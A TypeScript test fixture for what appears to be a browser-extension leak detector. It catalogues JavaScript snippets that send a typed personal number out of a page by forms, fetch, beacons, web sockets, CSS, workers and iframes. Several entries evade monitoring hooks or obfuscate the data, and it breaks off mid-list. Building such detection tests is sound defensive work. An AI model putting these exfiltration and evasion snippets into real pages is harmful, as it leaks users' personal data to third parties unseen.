/**
 * Ways by which pages, and the scripts of others in them, are known to hand a typed number to a third party: each
 * as source of a function of an address and the number, run in a page that has it in a field. What arrives at the
 * third party's server is the truth; `unseen` says in which browser no extension can read it, and why.
 */
import {createHash} from 'node:crypto';
import type {BrowserName} from '../rig/driver.ts';

type Reasons = Partial<Readonly<Record<BrowserName, string>>>;

export interface Leak {
  readonly what: string;
  /** `(to, value) => …`, run in the page's world. */
  readonly act: string;
  /** Extension of the address, for servers that answer by it. */
  readonly ext?: string;
  /** The page that leaks, `/formulaire` unless said. */
  readonly page?: string;
  /** What arrives instead of the number itself: part of an address, a header or a body. */
  readonly as?: (value: string) => string;
  /** Nothing arrives there, and nothing may be told. */
  readonly silent?: Reasons;
  /** Where the browser holds the tab that was opened to have sent it: it is told there. */
  readonly opened?: readonly BrowserName[];
  /** It arrives, and no extension can read it. */
  readonly unseen?: Reasons;
}

const q = "to + '?v=' + encodeURIComponent(value)";
const text = "'v=' + value";
const post = (body: string, more = ''): string =>
  `(to, value) => { void fetch(to, {method: 'POST', mode: 'no-cors', ${more} body: ${body}}); }`;
const postLater = (body: string): string =>
  `async (to, value) => { const body = await ${body}; void fetch(to, {method: 'POST', mode: 'no-cors', body}); }`;
const open = (setup: string): string =>
  `(to, value) => { const x = new XMLHttpRequest(); x.open('POST', to); ${setup}; }`;
const beacon = (body: string): string => `(to, value) => { navigator.sendBeacon(to, ${body}); }`;
const element = (name: string, more: string): string =>
  `(to, value) => { const e = document.createElement('${name}'); ${more}; document.body.append(e); }`;
const markup = (html: string): string =>
  `(to, value) => { document.body.insertAdjacentHTML('beforeend', ${html}); }`;
const style = (css: string): string => element('style', `e.textContent = ${css}`);
const link = (more: string): string =>
  `(to, value) => { const e = document.createElement('link'); ${more}; document.head.append(e); }`;
const leaving = (setup: string, send = 'f.submit()'): string =>
  `(to, value) => { const f = document.createElement('form'); f.action = to; f.method = 'post'; const e = document.createElement('input'); e.name = 'v'; e.value = value; f.append(e); document.body.append(f); ${setup}; setTimeout(() => { ${send}; }); }`;
const soon = (act: string): string => `(to, value) => { setTimeout(() => { ${act}; }); }`;
const socket = (send: string): string =>
  `(to, value) => { const s = new WebSocket(to.replace(/^http/, 'ws')); s.onopen = () => { ${send}; }; }`;
const inFrame = (send: string): string =>
  `(to, value) => { const e = document.createElement('iframe'); document.body.append(e); const w = e.contentWindow; ${send}; }`;
const sending = "fetch(to, {method: 'POST', mode: 'no-cors', body: 'v=' + value})";
const written = `'fetch("' + to + '", {method: "POST", mode: "no-cors", body: "v=' + value + '"})'`;
const blobOf = (source: string, type: string): string =>
  `URL.createObjectURL(new Blob(['((to, value) => {' + ${JSON.stringify(source)} + '})(' + JSON.stringify(to) + ',' + JSON.stringify(value) + ')'], {type: '${type}'}))`;
const worker = (source: string): string =>
  `(to, value) => { new Worker(${blobOf(source, 'text/javascript')}); }`;
const page =
  "'<script>((to, value) => ' + String(send) + ')(' + JSON.stringify(to) + ',' + JSON.stringify(value) + ')</' + 'script>'";
const framed = (setup: string): string =>
  `(to, value) => { const send = "${sending}"; const html = ${page}; const e = document.createElement('iframe'); ${setup}; document.body.append(e); }`;
const code = (status: number): string =>
  `(to, value) => { void fetch('/renvoi?' + new URLSearchParams({to, code: '${status}'}), {method: 'POST', mode: 'no-cors', body: 'v=' + value}); }`;
const digest = (hash: string, as: string): string =>
  `async (to, value) => { const bytes = new Uint8Array(await crypto.subtle.digest('${hash}', new TextEncoder().encode(value))); void fetch(to, {method: 'POST', mode: 'no-cors', body: JSON.stringify({u: ${as}})}); }`;
const packed = (format: string): string =>
  `new Blob([JSON.stringify({v: value, page: location.href})]).stream().pipeThrough(new CompressionStream('${format}'))`;

const forms: readonly Leak[] = [
  {what: 'a form', act: leaving('')},
  {what: 'a multipart form', act: leaving("f.enctype = 'multipart/form-data'")},
  {what: 'a plain text form', act: leaving("f.enctype = 'text/plain'")},
  {what: 'a form of GET', act: leaving("f.method = 'get'")},
  {
    what: 'a form in another character set',
    act: leaving("f.acceptCharset = 'iso-8859-1'; e.value = 'né ' + value"),
  },
  {what: 'a form submitted as a person would', act: leaving('', 'f.requestSubmit()')},
  {
    what: 'a button with an address of its own',
    act: leaving(
      "const b = document.createElement('button'); b.formAction = to; f.action = '/envoi'; f.append(b)",
      'b.click()',
    ),
  },
  {
    what: 'a button that asks for a dialog’s method',
    act: leaving(
      "f.method = 'dialog'; const b = document.createElement('button'); b.formMethod = 'post'; f.append(b)",
      'b.click()',
    ),
  },
  {
    what: 'a button’s own value',
    act: leaving(
      "e.value = ''; const b = document.createElement('button'); b.name = 'b'; b.value = value; f.append(b)",
      'b.click()',
    ),
  },
  {
    what: 'a picture that submits',
    act: leaving("const b = document.createElement('input'); b.type = 'image'; f.append(b)", 'b.click()'),
  },
  {what: 'a form into a new tab', act: leaving("f.target = '_blank'; f.rel = 'opener'")},
  {
    what: 'a form into a frame',
    act: leaving(
      "const i = document.createElement('iframe'); i.name = 'cadre'; document.body.append(i); f.target = 'cadre'",
    ),
  },
  {
    what: 'a field outside of its form',
    act: leaving(
      "f.id = 'formulaire'; e.remove(); e.setAttribute('form', 'formulaire'); document.body.append(e)",
    ),
  },
  {
    what: 'a form in a shadow tree',
    act: leaving(
      "const d = document.createElement('div'); document.body.append(d); d.attachShadow({mode: 'closed'}).append(f)",
    ),
  },
  {
    what: 'a value added as the form goes',
    act: leaving(
      "e.value = ''; f.addEventListener('formdata', (event) => event.formData.append('ajout', value))",
    ),
  },
  {
    what: 'an element of the page’s own',
    act: leaving(
      "e.value = ''; customElements.define('x-champ', class extends HTMLElement { static formAssociated = true; constructor() { super(); this.attachInternals().setFormValue(value); } }); const x = document.createElement('x-champ'); x.setAttribute('name', 'x'); f.append(x)",
    ),
  },
  {
    what: 'a form sent by another frame’s natives',
    act: leaving(
      "const i = document.createElement('iframe'); document.body.append(i)",
      'i.contentWindow.HTMLFormElement.prototype.submit.call(f)',
    ),
  },
  {
    what: 'a form redirected with its body',
    act: leaving("f.action = '/renvoi?' + new URLSearchParams({to, code: '307'})"),
  },
];

const navigations: readonly Leak[] = [
  {what: 'an address gone to', act: soon(`location.href = ${q}`)},
  {what: 'an address assigned', act: soon(`location.assign(${q})`)},
  {what: 'an address replaced', act: soon(`location.replace(${q})`)},
  {what: 'a path gone to', act: soon("location.href = to + '/' + value")},
  {what: 'a link', act: element('a', `e.href = ${q}; setTimeout(() => e.click())`)},
  {
    what: 'an area of a map',
    act: element(
      'map',
      `const a = document.createElement('area'); a.href = ${q}; e.append(a); setTimeout(() => a.click())`,
    ),
  },
  {
    what: 'a refresh',
    act: `(to, value) => { const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + ${q}; document.head.append(m); }`,
  },
  {
    what: 'a refresh by a header',
    act: "(to, value) => { location.href = '/rafraichit?' + new URLSearchParams({to, v: value}); }",
  },
  {what: 'a window opened', act: soon(`window.open(${q})`)},
  {
    what: 'a window opened without its opener',
    act: soon(`window.open(${q}, '_blank', 'noopener,width=300')`),
  },
  {what: 'a window opened, then sent away', act: soon(`const w = window.open(''); w.location = ${q}`)},
  {
    what: 'an empty window’s own code',
    opened: ['firefox'],
    act: soon(`const w = window.open(''); void w.${sending}.then(() => { w.location = '/vide'; })`),
  },
  {what: 'a download', act: element('a', `e.href = ${q}; e.download = ''; setTimeout(() => e.click())`)},
  {
    what: 'an address of the page’s own history, as Referer',
    act: `(to, value) => { history.pushState(0, '', '?v=' + value); const i = new Image(); i.referrerPolicy = 'unsafe-url'; i.src = to; }`,
    as: (v) => `https://portail.test/formulaire?v=${v}`,
    silent: {firefox: 'trims it to the origin for other sites'},
  },
  {
    what: 'an address that a frame leaves by',
    act: `(to, value) => { const e = document.createElement('iframe'); document.body.append(e); e.contentWindow.location.replace(${q}); }`,
  },
  {
    what: 'the page’s address as a parameter',
    act: `(to, value) => { history.replaceState(0, '', '?dossier=' + value); new Image().src = to + '?dl=' + encodeURIComponent(location.href); }`,
  },
  {
    what: 'the page’s title as a parameter',
    act: `(to, value) => { document.title = 'Dossier ' + value; new Image().src = to + '?dt=' + encodeURIComponent(document.title); }`,
  },
  {what: 'the navigation interface', act: soon(`navigation.navigate(${q})`)},
];

const bodies: readonly Leak[] = [
  {what: 'fetch of a text', act: post(text)},
  {what: 'fetch of JSON', act: post('JSON.stringify({a: [{b: {v: value}}]})')},
  {what: 'fetch of parameters', act: post('new URLSearchParams({v: value})')},
  {
    what: 'fetch of a form',
    act: post("(() => { const f = new FormData(); f.append('v', value); return f; })()"),
  },
  {what: 'fetch of a Blob', act: post(`new Blob([${text}])`)},
  {what: 'fetch of a file', act: post(`new File([${text}], 'v.txt', {type: 'text/plain'})`)},
  {what: 'fetch of a buffer', act: post(`new TextEncoder().encode(${text}).buffer`)},
  {what: 'fetch of bytes', act: post(`new TextEncoder().encode('x' + ${text}).subarray(1)`)},
  {
    what: 'fetch of words of 16 bits',
    act: post(`Uint16Array.from(${text}, (c) => c.charCodeAt(0))`),
    as: (v) => Buffer.from(v, 'utf16le').toString('latin1'),
  },
  {what: 'fetch of a view', act: post(`new DataView(new TextEncoder().encode(${text}).buffer)`)},
  {
    what: 'fetch of a file’s name',
    act: post(
      "(() => { const f = new FormData(); f.append('f', new File(['x'], value + '.pdf')); return f; })()",
    ),
  },
  {
    what: 'fetch of a file in a form',
    act: post(
      `(() => { const f = new FormData(); f.append('f', new File([${text}], 'a.txt')); return f; })()`,
    ),
  },
  {what: 'fetch kept alive', act: post(text, 'keepalive: true,')},
  {what: 'fetch by PUT', act: `(to, value) => { void fetch(to, {method: 'PUT', body: ${text}}); }`},
  {what: 'fetch by PATCH', act: `(to, value) => { void fetch(to, {method: 'PATCH', body: ${text}}); }`},
  {what: 'fetch by DELETE', act: `(to, value) => { void fetch(to, {method: 'DELETE', body: ${text}}); }`},
  {
    what: 'fetch of a Request',
    act: `(to, value) => { void fetch(new Request(to, {method: 'POST', mode: 'no-cors', body: ${text}})); }`,
  },
  {
    what: 'fetch of a cloned Request',
    act: `(to, value) => { void fetch(new Request(to, {method: 'POST', mode: 'no-cors', body: ${text}}).clone()); }`,
  },
  {
    what: 'fetch of a Request by its subclass',
    act: `(to, value) => { void fetch(new (class extends Request {})(to, {method: 'POST', mode: 'no-cors', body: new Blob([${text}])})); }`,
  },
  {
    what: 'fetch of a stream',
    act: `(to, value) => { void fetch(to, {method: 'POST', duplex: 'half', body: new ReadableStream({start(c) { c.enqueue(new TextEncoder().encode(${text})); c.close(); }})}); }`,
    silent: {firefox: 'has no streamed uploads: it sends the words "[object ReadableStream]"'},
  },
  {
    what: 'fetch of a Response’s body',
    act: `(to, value) => { void fetch(to, {method: 'POST', duplex: 'half', body: new Response(${text}).body}); }`,
    silent: {firefox: 'has no streamed uploads'},
  },
  {
    what: 'fetch of a compressed stream',
    act: `(to, value) => { void fetch(to, {method: 'POST', duplex: 'half', body: ${packed('gzip')}}); }`,
    as: () => '\u001f',
    silent: {firefox: 'has no streamed uploads'},
  },
  {
    what: 'fetch of a Request with a stream',
    act: `(to, value) => { void fetch(new Request(to, {method: 'POST', duplex: 'half', body: new Blob([${text}]).stream()})); }`,
    silent: {firefox: 'has no streamed uploads'},
  },
  {
    what: 'fetch of a stream of words',
    act: `(to, value) => { const {readable, writable} = new TextEncoderStream(); const w = writable.getWriter(); void w.write('v='); void w.write(value); void w.close(); void fetch(to, {method: 'POST', duplex: 'half', body: readable}); }`,
    silent: {firefox: 'has no streamed uploads'},
  },
  {
    what: 'fetch of what a Request holds',
    act: `(to, value) => { const r = new Request(to, {method: 'POST', body: ${text}}); void fetch(to, {method: 'POST', duplex: 'half', body: r.body}); }`,
    silent: {firefox: 'has no streamed uploads'},
  },
  {
    what: 'a Request read, then sent',
    act: `async (to, value) => { const r = new Request(to, {method: 'POST', mode: 'no-cors', body: ${text}}); void fetch(to, {method: 'POST', mode: 'no-cors', body: await r.blob()}); }`,
  },
  {what: 'a query', act: `(to, value) => { void fetch(${q}, {mode: 'no-cors'}); }`},
  {what: 'a path', act: "(to, value) => { void fetch(to + '/' + value, {mode: 'no-cors'}); }"},
  {what: 'a parameter’s name', act: "(to, value) => { void fetch(to + '?' + value, {mode: 'no-cors'}); }"},
  {
    what: 'a header of the page’s own',
    act: "(to, value) => { void fetch(to, {headers: {'X-Assure': value}}); }",
  },
  {
    what: 'a header that asks for a password',
    act: "(to, value) => { void fetch(to, {headers: {Authorization: 'Bearer ' + value}}); }",
  },
  {
    what: 'a header that a list allows',
    act: "(to, value) => { void fetch(to, {mode: 'no-cors', headers: {Accept: 'text/' + value}}); }",
  },
  {
    what: 'the Referer that a page asks for',
    act: "(to, value) => { void fetch(to, {mode: 'no-cors', referrer: '/formulaire?v=' + value, referrerPolicy: 'unsafe-url'}); }",
    silent: {firefox: 'trims it to the origin for other sites'},
  },
  {
    what: 'fetch later',
    act: `(to, value) => { fetchLater(to, {method: 'POST', body: ${text}, activateAfter: 0}); }`,
    silent: {firefox: 'has none'},
  },
  {what: 'XMLHttpRequest of a text', act: open(`x.send(${text})`)},
  {what: 'XMLHttpRequest of a form', act: open("const f = new FormData(); f.append('v', value); x.send(f)")},
  {
    what: 'XMLHttpRequest of a document',
    act: open(
      "const d = new DOMParser().parseFromString('<a/>', 'text/xml'); d.documentElement.setAttribute('v', value); x.send(d)",
    ),
  },
  {
    what: 'XMLHttpRequest of a page',
    act: open('const d = document.implementation.createHTMLDocument(value); x.send(d)'),
  },
  {what: 'XMLHttpRequest of a Blob', act: open(`x.send(new Blob([${text}]))`)},
  {what: 'XMLHttpRequest of bytes', act: open(`x.send(new TextEncoder().encode(${text}))`)},
  {
    what: 'XMLHttpRequest that waits',
    act: `(to, value) => { const x = new XMLHttpRequest(); x.open('POST', to, false); x.send(${text}); }`,
  },
  {what: 'a header of XMLHttpRequest', act: open("x.setRequestHeader('X-Assure', value); x.send()")},
  {what: 'a beacon of a text', act: beacon(text)},
  {
    what: 'a beacon of a form',
    act: beacon("(() => { const f = new FormData(); f.append('v', value); return f; })()"),
  },
  {what: 'a beacon of parameters', act: beacon('new URLSearchParams({v: value})')},
  {what: 'a beacon of a Blob', act: beacon(`new Blob([${text}])`)},
  {what: 'a beacon of bytes', act: beacon(`new TextEncoder().encode(${text})`)},
  {what: 'a beacon’s query', act: `(to, value) => { navigator.sendBeacon(${q}); }`},
  {
    what: 'a beacon as the page goes',
    act: `(to, value) => { addEventListener('pagehide', () => navigator.sendBeacon(to, ${text})); setTimeout(() => { location.href = '/vide'; }); }`,
  },
  {
    what: 'a Blob in a beacon as the page goes',
    act: `(to, value) => { addEventListener('pagehide', () => navigator.sendBeacon(to, new Blob([${text}]))); setTimeout(() => { location.href = '/vide'; }); }`,
  },
  {
    what: 'fetch kept alive as the page goes',
    act: `(to, value) => { addEventListener('pagehide', () => void fetch(to, {method: 'POST', mode: 'no-cors', keepalive: true, body: ${text}})); setTimeout(() => { location.href = '/vide'; }); }`,
  },
  {
    what: 'a link’s ping',
    act: element('a', `e.href = '#x'; e.ping = ${q}; setTimeout(() => e.click())`),
    silent: {firefox: 'sends none unless told to'},
  },
];

const live: readonly Leak[] = [
  {what: 'EventSource', act: `(to, value) => { new EventSource(${q}); }`},
  {what: 'a text in a web socket', act: socket('s.send(JSON.stringify({v: value}))')},
  {what: 'bytes in a web socket', act: socket(`s.send(new TextEncoder().encode(${text}))`)},
  {what: 'a Blob in a web socket', act: socket(`s.send(new Blob([${text}]))`)},
  {
    what: 'the address of a web socket',
    act: `(to, value) => { new WebSocket((${q}).replace(/^http/, 'ws')); }`,
  },
  {
    what: 'a subprotocol of a web socket',
    act: "(to, value) => { new WebSocket(to.replace(/^http/, 'ws'), ['v1', value]); }",
  },
  {
    what: 'two texts of a web socket',
    act: socket('s.send(\'{"a":1}\'); s.send(\'{"v":"\' + value + \'"}\')'),
  },
  {
    what: 'a web socket of another frame’s natives',
    act: inFrame(`const s = new w.WebSocket(to.replace(/^http/, 'ws')); s.onopen = () => s.send(${text})`),
  },
  {
    what: 'a web socket by natives lent',
    act: inFrame(
      `const s = new WebSocket(to.replace(/^http/, 'ws')); s.onopen = () => w.WebSocket.prototype.send.call(s, ${text})`,
    ),
  },
  {
    what: 'a stream of a web socket',
    act: `async (to, value) => { const s = new WebSocketStream(to.replace(/^http/, 'ws')); const {writable} = await s.opened; await writable.getWriter().write(${text}); }`,
    silent: {firefox: 'has none'},
  },
  {
    what: 'a worker’s web socket',
    act: worker(`const s = new WebSocket(to.replace(/^http/, 'ws')); s.onopen = () => s.send(${text});`),
    unseen: {chromium: 'no hook reaches a worker', firefox: 'no hook reaches a worker'},
  },
];

const resources: readonly Leak[] = [
  {what: 'an image', ext: '.gif', act: element('img', `e.src = ${q}`)},
  {what: 'an image never shown', ext: '.gif', act: `(to, value) => { new Image().src = ${q}; }`},
  {what: 'a set of images', ext: '.gif', act: element('img', `e.srcset = ${q} + ' 1x'`)},
  {
    what: 'a picture’s source',
    ext: '.gif',
    act: markup(`'<picture><source srcset="' + ${q} + '"><img></picture>'`),
  },
  {what: 'a button that is an image', ext: '.gif', act: element('input', `e.type = 'image'; e.src = ${q}`)},
  {
    what: 'an image of a drawing',
    ext: '.gif',
    act: markup(`'<svg><image href="' + ${q} + '" width="9" height="9"/></svg>'`),
  },
  {
    what: 'a filter of a drawing',
    ext: '.gif',
    act: markup(
      `'<svg width="9" height="9"><filter id="z"><feImage href="' + ${q} + '"/></filter><rect width="9" height="9" filter="url(#z)"/></svg>'`,
    ),
  },
  {
    what: 'a background by attribute',
    ext: '.gif',
    act: `(to, value) => { document.body.setAttribute('background', ${q}); }`,
  },
  {
    what: 'a background',
    ext: '.gif',
    act: element('p', `e.textContent = 'x'; e.style.background = 'url("' + ${q} + '")'`),
  },
  {
    what: 'a list’s image',
    ext: '.gif',
    act: element('li', `e.textContent = 'x'; e.style.listStyleImage = 'url("' + ${q} + '")'`),
  },
  {
    what: 'a pointer',
    ext: '.gif',
    act: `(to, value) => { document.body.style.cursor = 'url("' + ${q} + '"), auto'; document.documentElement.style.height = '100%'; }`,
  },
  {what: 'a generated content', ext: '.gif', act: style(`'body::after { content: url("' + ${q} + '") }'`)},
  {
    what: 'an image set of a style',
    ext: '.gif',
    act: style(`'body { background: image-set("' + ${q} + '" 1x) }'`),
  },
  {
    what: 'a mask',
    ext: '.svg',
    act: element('p', `e.textContent = 'x'; e.style.mask = 'url("' + ${q} + '")'`),
  },
  {
    what: 'a style that looks at the field',
    ext: '.gif',
    act: `(to, value) => { nir.setAttribute('value', value); document.body.insertAdjacentHTML('beforeend', '<style>#nir[value="' + value + '"] { background: url("' + ${q} + '") }</style>'); }`,
  },
  {what: 'a sound', ext: '.wav', act: element('audio', `e.preload = 'auto'; e.src = ${q}`)},
  {what: 'a film', ext: '.webm', act: element('video', `e.preload = 'auto'; e.src = ${q}`)},
  {
    what: 'a film’s source',
    ext: '.webm',
    act: markup(`'<video preload="auto"><source src="' + ${q} + '"></video>'`),
  },
  {what: 'a film’s picture', ext: '.gif', act: element('video', `e.poster = ${q}`)},
  {
    what: 'a film’s titles',
    ext: '.vtt',
    act: markup(
      `'<video crossorigin src="/film.webm"><track default kind="subtitles" src="' + ${q} + '"></video>'`,
    ),
  },
  {what: 'a script', ext: '.js', act: element('script', `e.src = ${q}`)},
  {what: 'a module', ext: '.js', act: `(to, value) => { import(${q}).catch(() => 0); }`},
  {
    what: 'a script of a drawing',
    ext: '.js',
    act: `(to, value) => { const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const e = document.createElementNS('http://www.w3.org/2000/svg', 'script'); e.setAttribute('href', ${q}); s.append(e); document.body.append(s); }`,
  },
  {what: 'a stylesheet', ext: '.css', act: link(`e.rel = 'stylesheet'; e.href = ${q}`)},
  {what: 'a stylesheet of a stylesheet', ext: '.css', act: style(`'@import "' + ${q} + '";'`)},
  {
    what: 'a font',
    ext: '.woff2',
    act: `(to, value) => { document.body.insertAdjacentHTML('beforeend', '<style>@font-face { font-family: zz; src: url("' + ${q} + '") }</style><p style="font-family: zz">Texte</p>'); }`,
  },
  {what: 'a frame', act: element('iframe', `e.src = ${q}`)},
  {
    what: 'a frame in a frame',
    act: `(to, value) => { const e = document.createElement('iframe'); e.srcdoc = '<iframe src="' + ${q} + '"></iframe>'; document.body.append(e); }`,
  },
  {what: 'an object', act: element('object', `e.data = ${q}`)},
  {what: 'an embedded thing', act: element('embed', `e.src = ${q}`)},
  {
    what: 'an icon',
    ext: '.gif',
    act: link(
      `for (const old of document.querySelectorAll('link[rel=icon]')) old.remove(); e.rel = 'icon'; e.href = ${q}`,
    ),
  },
  {what: 'a prefetch', act: link(`e.rel = 'prefetch'; e.href = ${q}`)},
  {what: 'a preload', ext: '.gif', act: link(`e.rel = 'preload'; e.as = 'image'; e.href = ${q}`)},
  {what: 'a module’s preload', ext: '.js', act: link(`e.rel = 'modulepreload'; e.href = ${q}`)},
  {
    what: 'speculation rules',
    act: element(
      'script',
      `e.type = 'speculationrules'; e.textContent = JSON.stringify({prefetch: [{urls: [${q}], eagerness: 'immediate'}]})`,
    ),
    silent: {firefox: 'has none'},
  },
  {
    what: 'a worklet',
    ext: '.js',
    act: `(to, value) => { void new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(${q}).catch(() => 0); }`,
  },
];

const elsewhere: readonly Leak[] = [
  {what: 'a worker', act: worker(`${sending};`)},
  {
    what: 'a worker’s XMLHttpRequest',
    act: worker(`const x = new XMLHttpRequest(); x.open('POST', to); x.send(${text});`),
  },
  {
    what: 'a worker’s Blob',
    act: worker(`fetch(to, {method: 'POST', mode: 'no-cors', body: new Blob([${text}])});`),
    unseen: {chromium: 'the browser hides Blobs, and no hook reaches a worker'},
  },
  {what: 'a worker’s script', act: worker(`try { importScripts(${q}); } catch {}`), ext: '.js'},
  {
    what: 'a worker in a worker',
    act: worker(
      `new Worker(URL.createObjectURL(new Blob(['fetch("' + to + '", {method: "POST", mode: "no-cors", body: "v=' + value + '"})'])));`,
    ),
  },
  {
    what: 'a worker with a script of its own',
    act: "(to, value) => { new Worker('/ouvrier.js?' + new URLSearchParams({to, v: value})); }",
  },
  {
    what: 'a worker that is a module',
    act: "(to, value) => { new Worker('/ouvrier.js?' + new URLSearchParams({to, v: value}), {type: 'module'}); }",
  },
  {
    what: 'a shared worker',
    act: "(to, value) => { new SharedWorker('/ouvrier.js?' + new URLSearchParams({to, v: value})); }",
  },
  {
    what: 'a service worker',
    act: "async (to, value) => { await navigator.serviceWorker.register('/sw.js'); const {active} = await navigator.serviceWorker.ready; active.postMessage({to, value}); }",
  },
  {
    what: 'fetch in the background',
    act: `async (to, value) => { await navigator.serviceWorker.register('/sw.js'); const all = await navigator.serviceWorker.ready; await all.backgroundFetch.fetch('f' + Math.random(), new Request(${q}, {mode: 'cors'}), {title: 'x'}); }`,
    silent: {firefox: 'has none'},
  },
  {
    what: 'an empty frame’s fetch',
    act: inFrame("void w.fetch(to, {method: 'POST', mode: 'no-cors', body: 'v=' + value})"),
  },
  {
    what: 'an empty frame’s Blob',
    act: inFrame(`void w.fetch(to, {method: 'POST', mode: 'no-cors', body: new Blob([${text}])})`),
  },
  {
    what: 'an empty frame’s beacon, lent',
    act: inFrame(`w.Navigator.prototype.sendBeacon.call(navigator, to, new Blob([${text}]))`),
  },
  {
    what: 'an empty frame’s XMLHttpRequest',
    act: inFrame(`const x = new w.XMLHttpRequest(); x.open('POST', to); x.send(new w.Blob([${text}]))`),
  },
  {
    what: 'an empty frame’s fetch, the frame gone',
    act: inFrame(
      `const f = w.fetch; void f.call(window, to, {method: 'POST', mode: 'no-cors', body: new Blob([${text}])}); e.remove()`,
    ),
    unseen: {chromium: 'the browser hides Blobs, and a frame that is gone tells nothing'},
  },
  {what: 'a frame of markup', act: framed('e.srcdoc = html')},
  {
    what: 'a frame of markup used at once',
    act: `(to, value) => { const e = document.createElement('iframe'); e.srcdoc = 'x'; document.body.append(e); void e.contentWindow.fetch(to, {method: 'POST', mode: 'no-cors', body: ${text}}); }`,
  },
  {
    what: 'a frame of a Blob',
    act: framed("e.src = URL.createObjectURL(new Blob([html], {type: 'text/html'}))"),
  },
  {what: 'a frame of data', act: framed("e.src = 'data:text/html,' + encodeURIComponent(html)")},
  {what: 'a frame in a sandbox', act: framed("e.sandbox = 'allow-scripts'; e.srcdoc = html")},
  {
    what: 'a frame written to',
    act: framed('').replace(/}$/, ' e.contentDocument.write(html); e.contentDocument.close(); }'),
  },
  {what: 'a frame of code', act: framed("window.html = html; e.src = 'javascript:parent.html'")},
  {
    what: 'code from a text',
    act: `(to, value) => { (0, eval)(${written}); }`,
  },
  {
    what: 'code from a text, later',
    act: `(to, value) => { setTimeout(${written}); }`,
  },
  {
    what: 'code in an attribute',
    act: element('img', `e.setAttribute('onerror', ${written}); e.src = 'data:,'`),
  },
  {
    what: 'a frame’s name',
    act: "(to, value) => { const e = document.createElement('iframe'); e.name = value; e.src = 'https://suivi.test/cadre-nom?' + new URLSearchParams({to}); document.body.append(e); }",
  },
  {
    what: 'a frame’s fragment',
    act: "(to, value) => { const e = document.createElement('iframe'); e.src = 'https://suivi.test/cadre-fragment?' + new URLSearchParams({to}) + '#' + value; document.body.append(e); }",
  },
  {
    what: 'a message to a frame',
    act: "(to, value) => { const e = document.createElement('iframe'); e.onload = () => e.contentWindow.postMessage({to, value}, '*'); e.src = 'https://suivi.test/cadre-message'; document.body.append(e); }",
  },
  {
    what: 'a port to a frame',
    act: "(to, value) => { const e = document.createElement('iframe'); const {port1, port2} = new MessageChannel(); e.onload = () => { e.contentWindow.postMessage('port', '*', [port2]); port1.postMessage({to, value}); }; e.src = 'https://suivi.test/cadre-message'; document.body.append(e); }",
  },
  {
    what: 'a broadcast to a page of the site',
    act: "(to, value) => { const e = document.createElement('iframe'); e.onload = () => new BroadcastChannel('b').postMessage({to, value}); e.src = '/cadre-radio'; document.body.append(e); }",
  },
  {
    what: 'a value stored, then sent by another page',
    act: "(to, value) => { localStorage.setItem('v', JSON.stringify({to, value})); setTimeout(() => { location.href = '/page-memoire'; }); }",
  },
  {
    what: 'a value kept in a cookie, then sent by another page',
    act: "(to, value) => { document.cookie = 'v=' + encodeURIComponent(JSON.stringify({to, value})); setTimeout(() => { location.href = '/page-biscuit'; }); }",
  },
  {
    what: 'a style of an XML document',
    act: `(to, value) => { const e = document.createElement('iframe'); e.src = '/xml?' + new URLSearchParams({to: ${q}}); document.body.append(e); }`,
  },
  {
    what: 'a report of what a policy blocks',
    page: '/politique',
    act: `(to, value) => { new Image().src = 'https://ailleurs.test/x?v=' + value; }`,
  },
];

const redirections: readonly Leak[] = [
  ...[307, 308].map((status): Leak => ({what: `a redirection ${status} of a body`, act: code(status)})),
  ...[301, 302, 303].map(
    (status): Leak => ({
      what: `a redirection ${status} of a query`,
      act: `(to, value) => { void fetch('/renvoi?' + new URLSearchParams({to: ${q}, code: '${status}'}), {mode: 'no-cors'}); }`,
    }),
  ),
  {
    what: 'an image redirected',
    ext: '.gif',
    act: `(to, value) => { new Image().src = '/renvoi?' + new URLSearchParams({to: ${q}, code: '302'}); }`,
  },
];

const sum = (hash: string, encoding: 'hex' | 'base64') => (value: string) =>
  createHash(hash).update(value).digest(encoding);
const hex = "Array.from(bytes, (b) => b.toString(16).padStart(2, '0')).join('')";

const encodings: readonly Leak[] = [
  {what: 'base64', act: post('btoa(value)'), as: (v) => btoa(v)},
  {
    what: 'base64 of JSON in a query',
    act: "(to, value) => { void fetch(to + '?d=' + encodeURIComponent(btoa(JSON.stringify({v: value}))), {mode: 'no-cors'}); }",
    as: (v) => btoa(JSON.stringify({v})),
  },
  {what: 'base64 twice', act: post('btoa(btoa(value))'), as: (v) => btoa(btoa(v))},
  {
    what: 'base64 for addresses',
    act: "(to, value) => { void fetch(to + '/' + btoa('??>' + value).replace(/\\+/g, '-').replace(/\\//g, '_').replace(/=/g, ''), {mode: 'no-cors'}); }",
    as: (v) => btoa(`??>${v}`).replace(/\+/g, '-').replace(/\//g, '_').replace(/=/g, ''),
  },
  {
    what: 'hexadecimal',
    act: post("Array.from(value, (c) => c.charCodeAt(0).toString(16)).join('')"),
    as: (v) => Buffer.from(v).toString('hex'),
  },
  {
    what: 'percents',
    act: "(to, value) => { void fetch(to + '?v=' + Array.from(value, (c) => '%' + c.charCodeAt(0).toString(16)).join(''), {mode: 'no-cors'}); }",
  },
  {
    what: 'percents twice',
    act: "(to, value) => { void fetch(to + '?v=' + encodeURIComponent(Array.from(value, (c) => '%' + c.charCodeAt(0).toString(16)).join('')), {mode: 'no-cors'}); }",
  },
  {what: 'JSON in JSON', act: post('JSON.stringify({e: JSON.stringify({d: JSON.stringify({v: value})})})')},
  {what: 'JSON in a form', act: post('new URLSearchParams({data: JSON.stringify({user: {v: value}})})')},
  {
    what: 'JSON in a query',
    act: "(to, value) => { void fetch(to + '?ev=' + encodeURIComponent(JSON.stringify({ud: {v: value}})), {mode: 'no-cors'}); }",
  },
  {
    what: 'escapes',
    act: post(
      "'{\"v\":\"' + Array.from(value, (c) => '\\\\u00' + c.charCodeAt(0).toString(16)).join('') + '\"}'",
    ),
    as: (v) => `\\u003${v.charAt(0)}`,
  },
  {
    what: 'entities',
    act: post("'<v>' + Array.from(value, (c) => '&#' + c.charCodeAt(0) + ';').join('') + '</v>'"),
    as: (v) => `&#${v.charCodeAt(0)};`,
  },
  {what: 'XML', act: post("'<?xml version=\"1.0\"?><a><v>' + value + '</v></a>'")},
  {
    what: 'a hand-made multipart body',
    act: post(
      "'--b\\r\\nContent-Disposition: form-data; name=\"v\"\\r\\n\\r\\n' + value + '\\r\\n--b--'",
      "headers: {'content-type': 'text/plain'},",
    ),
  },
